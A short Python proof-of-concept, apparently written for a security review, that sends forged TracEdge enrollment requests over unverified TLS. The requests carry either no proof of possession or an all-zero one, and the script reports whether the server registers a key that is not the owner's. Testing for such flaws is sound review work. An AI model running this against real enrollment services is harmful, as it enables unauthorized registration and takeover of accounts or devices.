# Review tool: sends a raw TracEdge EnrollRequest over TLS (no pin needed by an attacker).
# python3 enrol.py HOST PORT PUBKEY_HEX old|new   (old: v2 format, no proof of possession;
# new: v3 format with time and an all-zero "proof of possession")
import socket, ssl, struct, sys, time
host, port, keyhex, fmt = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
label = b"not-the-owner"
body = bytes([1]) + struct.pack(">H", 0x062a) + bytes.fromhex(keyhex) + struct.pack(">I", len(label)) + label
if fmt == "new":
    body += struct.pack(">Q", int(time.time() * 1000)) + bytes(64)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = ctx.wrap_socket(socket.create_connection((host, port)), server_hostname="tracedge.tacit.invalid")
s.sendall(struct.pack(">I", len(body)) + body)
def rd(n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c: raise SystemExit("closed after %d bytes" % len(b))
        b += c
    return b
n = struct.unpack(">I", rd(4))[0]; msg = rd(n); tag = struct.unpack(">H", msg[1:3])[0]
print("reply tag 0x%04x" % tag)
if tag == 0x062b and fmt == "old":
    print("REGISTERED at row %d of %d" % struct.unpack(">QQ", msg[3:19]))
else:
    print(msg[3:].decode("utf-8", "replace"))
